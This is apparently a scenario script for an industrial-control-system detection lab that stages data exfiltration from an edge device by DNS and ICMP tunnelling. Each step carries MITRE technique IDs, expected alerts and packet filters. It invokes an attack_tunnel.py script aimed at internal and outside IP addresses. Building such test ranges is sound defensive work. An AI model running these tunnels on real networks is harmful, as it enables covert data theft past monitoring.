"""Data leaves in names asked for and in pings: twelve kilobytes by DNS, forty by ICMP."""

SPEED = 2
STANDING = ("cleartext.protocol",)
OPENED = (("edge", "internet", "any"),)


def play(stage):
    stage.names_and_time()
    stage.plc()
    stage.host("cloud")
    stage.inference(110, period=3)
    stage.hmi(110, "--operator", 30)
    for _ in range(6):
        stage.ask("edge")
        stage.wait(8)
    stage.learned()
    with stage.step(
        "names that nobody could remember",
        actors=("edge",),
        targets=("server",),
        techniques=("T0882", "T0869", "AML.T0025"),
        expected=("exfiltration.dns_tunnel",),
        also=("exfiltration.volume",),
        evidence="dns && ip.src == {edge}",
    ):
        stage.done(stage.python("edge", "attack_tunnel.py", "dns", "10.10.0.5", 12000))
    stage.wait(5)
    with stage.step(
        "pings that carry something",
        actors=("edge",),
        targets=("cloud",),
        techniques=("T0882", "T0869", "AML.T0025"),
        expected=("exfiltration.icmp_tunnel",),
        also=("boundary.internet", "exfiltration.new_destination", "exfiltration.volume", "lateral.relay"),
        evidence="icmp.type == 8 && ip.src == {edge}",
    ):
        stage.done(stage.python("edge", "attack_tunnel.py", "icmp", "192.31.196.80", 40000))
    stage.wait(5)
